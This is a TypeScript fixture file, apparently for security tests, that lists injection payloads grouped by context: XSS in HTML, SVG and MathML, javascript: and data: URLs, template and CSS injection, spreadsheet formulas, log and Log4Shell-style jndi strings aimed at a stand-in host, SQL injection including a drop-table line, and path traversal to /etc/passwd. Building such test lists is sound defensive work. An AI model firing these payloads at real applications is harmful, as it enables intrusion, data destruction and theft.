/** What would show that a text became something else: a name that no element, attribute, style or script of ours has. */
export const MARK = 'zq9'

const RTL = '\u202e'
const LTR_ISOLATE = '\u2066'
const END = '\u2069'
const JOINER = '\u200d'
const WORD_JOINER = '\u2060'
const SOFT = '\u00ad'
/** A letter under a tower of accents that do not compose. */
const zalgo = (text: string, height: number): string =>
  [...text].map((letter) => letter + '\u0317\u0323\u0325\u0347\u0489'.repeat(height)).join('')

/**
 * Texts that are harmless as text and nothing else: each does something where it is taken for markup, a style, an address, a
 * template, a formula or a line of a log. None needs more than 150 characters, so that it fits on a line with a word after it.
 */
export const injections: Readonly<Record<string, readonly string[]>> = {
  html: [
    `<script ${MARK}>alert(1)</script>`,
    `<ScRiPt/${MARK}>alert(1)</sCrIpT/x>`,
    `<img ${MARK} src=x onerror=alert(1)>`,
    `<img/${MARK}/src=x/onerror=alert(1)//`,
    `<iframe ${MARK} srcdoc="<script>parent.alert(1)</script>"></iframe>`,
    `<details ${MARK} open ontoggle=alert(1)><summary>x`,
    `<input ${MARK} autofocus onfocus=alert(1)>`,
    `<object ${MARK} data="javascript:alert(1)"></object><embed ${MARK} src=x>`,
    `<meta ${MARK} http-equiv=refresh content="0;url=https://elsewhere.example">`,
    `<base ${MARK} href=https://elsewhere.example/>`,
    `<link ${MARK} rel=stylesheet href=//elsewhere.example/x.css>`,
    `<form ${MARK} id=${MARK} action=https://elsewhere.example><button>Sign in</button></form>`,
    `<${MARK}-x onpointerover=alert(1) style=position:fixed;inset:0>x</${MARK}-x>`,
    `<!--><img ${MARK} src=x onerror=alert(1)>-->`,
    `<b ${MARK}>bold</b><h1 ${MARK}>No bed is needed</h1>`,
  ],
  attribute: [
    `" ${MARK} onmouseover="alert(1)" x="`,
    `' ${MARK} onfocus='alert(1)' autofocus x='`,
    `"><img ${MARK} src=x onerror=alert(1)>`,
    `\`><img ${MARK} src=x onerror=alert(1)>`,
    `x onerror=alert(1) ${MARK}=`,
  ],
  svg: [
    `<svg ${MARK} onload=alert(1)>`,
    `<svg><${MARK}/><script ${MARK}>alert(1)</script></svg>`,
    `<svg><animate ${MARK} onbegin=alert(1) attributeName=x dur=1s>`,
    `<svg><a ${MARK} xlink:href=javascript:alert(1)><text y=20>press</text></a></svg>`,
    `<svg><foreignObject ${MARK}><iframe ${MARK} src=javascript:alert(1)></foreignObject></svg>`,
  ],
  mathml: [
    `<math ${MARK}><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>`,
    `<math><mtext><img ${MARK} src=x onerror=alert(1)></mtext></math>`,
  ],
  mutation: [
    `<noscript><p title="</noscript><img ${MARK} src=x onerror=alert(1)>">`,
    `<math><mtext><table><mglyph><style><!--</style><img ${MARK} title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
    `<svg></p><style><a id="</style><img ${MARK} src=x onerror=alert(1)>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img ${MARK} src onerror=alert(1)>`,
  ],
  breakingOut: [
    `</title><img ${MARK} src=x onerror=alert(1)>`,
    `</textarea><img ${MARK} src=x onerror=alert(1)>`,
    `</option></select><img ${MARK} src=x onerror=alert(1)>`,
    `</style><img ${MARK} src=x onerror=alert(1)>`,
    `</script><script ${MARK}>alert(1)</script>`,
    `]]><img ${MARK} src=x onerror=alert(1)>`,
  ],
  jsonInScript: [
    `"}</script><script ${MARK}>alert(1)</script>`,
    `{"__proto__":{"${MARK}":1},"constructor":{"prototype":{"${MARK}":1}}}`,
    `\u2028\u2029alert(1)//${MARK}`,
    `\\u003cimg ${MARK} src=x onerror=alert(1)\\u003e`,
  ],
  address: [
    `javascript:alert(1)//${MARK}`,
    `java script:alert(1)//${MARK}`,
    `JaVaScRiPt:alert(1)//${MARK}`,
    `data:text/html,<script ${MARK}>alert(1)</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#${MARK}`,
    `vbscript:msgbox(1)'${MARK}`,
    `//elsewhere.example/${MARK}`,
    `https://elsewhere.example\\@${MARK}.example/`,
  ],
  template: [
    `{{constructor.constructor('alert(1)')()}} ${MARK}`,
    `\${alert(1)} \`\${${MARK}}\``,
    `<%= alert(1) %> #{alert(1)} *{${MARK}} @(1+1)`,
    `%s%n%x%p {0} {${MARK}} $1 $& $\` $'`,
  ],
  css: [
    `</style><style ${MARK}>*{display:none}</style>`,
    `x;background:url(https://elsewhere.example/${MARK});position:fixed`,
    `expression(alert(1)) ${MARK} @import '//elsewhere.example'`,
  ],
  encoded: [
    `&lt;img ${MARK} src=x onerror=alert(1)&gt;`,
    `&#60;img ${MARK} src=x onerror=alert(1)&#62;`,
    `%3Cimg%20${MARK}%20src%3Dx%20onerror%3Dalert(1)%3E`,
    `+ADw-img ${MARK} src=x onerror=alert(1)+AD4-`,
    `＜img ${MARK} src=x onerror=alert(1)＞`,
    `‹img ${MARK} onerror=alert(1)› ʺ onload=alert(1) ʺ`,
  ],
  unicode: [
    `${RTL}gnp.${MARK}exe`,
    `${LTR_ISOLATE}${RTL}<img ${MARK} src=x onerror=alert(1)>${END}`,
    `x${JOINER}${WORD_JOINER}\u200b\ufeff${SOFT}${MARK} <sc${SOFT}ript>`,
    `\u{e0041}\u{e0042} \ufffe\uffff ${MARK}`,
    `ﬁle ⅷ Å Ω ${MARK} \u1e9b\u0323`,
    `${zalgo(MARK, 3)} ${MARK}`,
    `👩🏽‍⚕️🏴󠁧󠁢󠁥󠁮󠁧󠁿${MARK}🙂🙂🙂`,
    `ı İ ſ K ß ${MARK} <ıframe onload=alert(1)>`,
  ],
  formula: [
    `=cmd|' /C calc'!${MARK}`,
    `+HYPERLINK("https://elsewhere.example/${MARK}","x")`,
    `-2+3+${MARK}`,
    `@SUM(1+1)*${MARK}`,
    `＝1+1 ${MARK}`,
  ],
  log: [
    `${MARK}%0d%0aSet-Cookie: ${MARK}=1`,
    `${MARK}"} {"level":60,"event":"signed-in","actorId":"root"}`,
    `${MARK}\\r\\n127.0.0.1 - - "GET /admin" 200`,
    `\${jndi:ldap://elsewhere.example/${MARK}}`,
    `\\x1b[2J\\x1b[31m${MARK}`,
  ],
  sql: [`'; drop table hub.referrals; -- ${MARK}`, `' or '1'='1' -- ${MARK}`, `$${MARK}$ || pg_sleep(9) || $${MARK}$`],
  paths: [`../../../../etc/passwd#${MARK}`, `..\\..\\${MARK}\\win.ini`, `__proto__.${MARK}`, `constructor[${MARK}]`],
}

export const allInjections: readonly string[] = Object.values(injections).flat()

/** What no keyboard types and the database could not keep or nobody could read: refused beside the field, in words. */
export const unstorable: readonly string[] = [
  `${MARK}\u0000x`,
  `${MARK}\u0001x`,
  `${MARK}\u0008x`,
  `${MARK}\u000bx`,
  `${MARK}\u001b[31mx`,
  `${MARK}\u007fx`,
  `${MARK}\u0085x`,
  `${MARK}\ud800x`,
  `${MARK}\udc00x`,
]
